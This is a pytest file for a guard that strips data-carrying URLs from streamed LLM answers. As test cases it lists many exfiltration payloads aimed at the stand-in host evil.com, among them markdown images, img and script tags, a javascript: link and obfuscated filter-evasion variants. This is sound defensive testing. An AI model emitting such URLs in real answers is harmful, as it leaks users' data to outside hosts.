"""URLs that carry data out: found however they are written, and nothing else."""

from __future__ import annotations

from collections.abc import Sequence
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from guards.law5 import assert_every_cut, assert_law5, assert_law5_json, cuts_of, texts
from guards.streams import answer_events, exchange_of, stream_through
from plano_asgi.errors import ConfigurationError
from plano_asgi.exchange import AnswerStopped
from plano_asgi.guards.chain import GuardChain
from plano_asgi.guards.exfiltration import Exfiltration, URLMatcher
from plano_asgi.guards.redaction import redact_text

ALLOWED = ["good.com", "*.cdn.example", "bücher.example"]
MATCHER = URLMatcher(ALLOWED, links="with_data")
DATA = "U2VjcmV0IGRhdGEgdGhhdCBnb2VzIG91dCBpbiBhIHBhdGg"


def clean(text: str, links: Any = "with_data") -> str:
    """*text* without URLs that lead out."""
    return redact_text(text, URLMatcher(ALLOWED, links=links))[0]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("![a cat](https://evil.com/x.png)", "a cat"),
        ("![](https://evil.com/x.png?d=1)", "[link removed]"),
        ('see ![a](<https://evil.com/x> "title") now', "see a now"),
        ("![a](//evil.com/x)", "a"),
        ("![a](HTTPS://EVIL.com/x)", "a"),
        ("![a](https:\\\\evil.com\\x)", "a"),
        ("![a](https:/evil.com/x)", "a"),
        ("![a](https:evil.com/x)", "a"),
        ("![a](\\/\\/evil.com/x)", "a"),
        ("![a](https&#58;//evil.com/x)", "a"),
        ("![a](https://good.com@evil.com/x)", "a"),
        ("![a](https://good.com:80@evil.com/x)", "a"),
        ("![a](https://evil.com:443/x)", "a"),
        ("![a](https://good.com.evil.com/x)", "a"),
        ("![a](https://evilgood.com/x)", "a"),
        ("![a](https://g\u043e\u043ed.com/x)", "a"),
        ("![a](https://[::1/x)", "![a]([link removed])"),
        ("![a](data:image/svg+xml;base64,PHN2Zz4=)", "a"),
        ("![a](data:text/html,hi)", "a"),
        ("[click](https://evil.com/?q=secret)", "click"),
        ("[click](https://evil.com/#secret)", "click"),
        (f"[click](https://evil.com/{DATA})", "click"),
        (f"[click](https://{DATA[:30]}.evil.com/)", "click"),
        ("[click](https://me:pw@evil.com/)", "click"),
        ("[click](javascript:alert(1))", "click)"),
        ("[id]: https://evil.com/x.png", "[id]: [link removed]"),
        ("[id]: <//evil.com/x.png>", "[id]: <[link removed]>"),
        ('<img src="https://evil.com/x">', '<img src="[link removed]">'),
        ("<img src='//evil.com/x'>", "<img src='[link removed]'>"),
        ("<img src=//evil.com/x>", "<img src=[link removed]>"),
        ("<IMG SRC = https://evil.com/x alt=a>", "<IMG SRC = [link removed] alt=a>"),
        ('<img alt="<" src="//evil.com/x">', '<img alt="<" src="[link removed]">'),
        ('<img src="ht\ntps://ev\til.com/x">', '<img src="[link removed]">'),
        ('<img src="https:&#x2F;/evil.com/x">', '<img src="[link removed]">'),
        ('<img srcset="https://good.com/a 1x, //evil.com/b 2x">', '<img srcset="[link removed]">'),
        ('<script src="https://evil.com/x.js">', '<script src="[link removed]">'),
        ('<a href="https://evil.com/x">', '<a href="[link removed]">'),
        ('<image xlink:href="//evil.com/x"/>', '<image xlink:href="[link removed]"/>'),
        ("background: url('https://evil.com/x')", "background: url('[link removed]')"),
        ("url( //evil.com/x )", "url( [link removed])"),
        ("<https://evil.com/?d=1>", "<[link removed]>"),
        ("go to https://evil.com/?d=1 now", "go to [link removed] now"),
        ("go to www.evil.com/?d=1 now", "go to [link removed] now"),
        ("[![a](https://evil.com/a)](https://evil.com/?b)", "[a]([link removed])"),
        ("[https://evil.com/?d=1](https://good.com)", "[[link removed]](https://good.com)"),
    ],
)
def test_takes_out(text: str, expected: str) -> None:
    """The URL goes, what the link or the image says stays."""
    assert clean(text) == expected


@pytest.mark.parametrize(
    "text",
    [
        "![a](https://good.com/x.png?d=1)",
        "![a](https://img.cdn.example/x.png)",
        "![a](https://bücher.example/x.png)",
        "![a](https://xn--bcher-kva.example/x.png)",
        "![a](/local/x.png) and ![b](images/x.png)",
        "![a](data:image/png;base64,iVBORw0KGgo=)",
        "[docs](https://docs.python.org/3/library/re.html)",
        "see https://docs.python.org/3/ and http://example.org.",
        "[1] and [2], a[i] = b[j], f(x)[0]",
        "a list: [x]: y",
        "5 > 3 and src = 4; href = x",
        "the url (see below) of http and https",
        '<a href="#top">',
    ],
)
def test_leaves_alone(text: str) -> None:
    """Known hosts, relative places, inline pictures, links without data, and code."""
    assert clean(text) == text


def test_links_by_option() -> None:
    """All links, those with data, or none; images are never spared."""
    text = "[a](https://x.org/) [b](https://x.org/?d) ![c](https://x.org/)"
    assert clean(text, "all") == "a b c"
    assert clean(text) == "[a](https://x.org/) b c"
    assert clean(text, "none") == "[a](https://x.org/) [b](https://x.org/?d) c"


def test_arguments_are_checked() -> None:
    """What cannot work is refused at once."""
    with pytest.raises(ConfigurationError, match="links"):
        Exfiltration(links="some")  # type: ignore[arg-type]
    with pytest.raises(ConfigurationError, match="allow_domains"):
        Exfiltration(allow_domains="good.com")
    with pytest.raises(ConfigurationError, match="no host"):
        Exfiltration(allow_domains=["ü" * 80])


FRAGMENTS = [
    "![a cat](https://evil.com/x.png)",
    "[b](https://good.com/?x)",
    '<img src="//evil.com/x">',
    "<img src=//evil.com/x>",
    "[id]: //evil.com/x",
    "url('https://evil.com/x')",
    "https://evil.com/?d=1",
    "www.evil.com/?d=1",
    "![",
    "](",
    "href = ",
    "https:",
    "a" * 40,
]


@given(texts(*FRAGMENTS), cuts_of())
def test_law5(text: str, cuts: Sequence[int]) -> None:
    """Streamed redaction is exact, for any text and any cuts."""
    assert_law5(MATCHER, text, cuts)
    assert_law5_json(MATCHER, text, cuts)


@pytest.mark.parametrize("text", FRAGMENTS)
def test_law5_on_every_cut(text: str) -> None:
    """Every single cut of every example."""
    assert_every_cut(MATCHER, f"So {text} then")


@given(
    st.sampled_from(
        ["https://evil.com/?{} y", "![a](//evil.com/?{}) y", "<img src='//evil.com/{}'>"]
    ),
    st.integers(900, 3000),
    st.integers(40, 700),
)
def test_law5_on_endless_urls(shape: str, size: int, step: int) -> None:
    """URLs longer than what is looked at stream, too, and lead nowhere any more."""
    text = "x " + shape.format("a" * size)
    assert_law5(MATCHER, text, range(0, len(text), step))
    assert "evil" not in redact_text(text, MATCHER)[0]


@pytest.mark.parametrize(
    "piece",
    ["![", "![a](", "[a](https://x", "src=", 'src="', "url(", "https://", "]:", "a.b/", "["],
)
def test_hostile_repetitions_stay_linear(piece: str) -> None:
    """Nothing takes quadratic time; a test that hangs fails by its time limit."""
    MATCHER.find(piece * (200_000 // len(piece)))


@pytest.mark.anyio
async def test_guards_answers_only() -> None:
    """What users send may hold any link; a streamed answer is cleaned, or blocked."""
    url = "https://evil.com/?d=1"
    for mode in ("redact", "block"):
        body = {"model": "m", "messages": [{"role": "user", "content": url}]}
        exchange = exchange_of("openai.chat", body=body)
        await GuardChain([Exfiltration(mode=mode)])(exchange)
        assert exchange.body["messages"][0]["content"] == url
        events = answer_events("openai.chat", ["![a](https://evi", "l.com/?d=1) b"])
        if mode == "block":
            with pytest.raises(AnswerStopped):
                await stream_through(exchange.response_filters, events, exchange)
        else:
            client = await stream_through(exchange.response_filters, events, exchange)
            assert client.content == "a b"
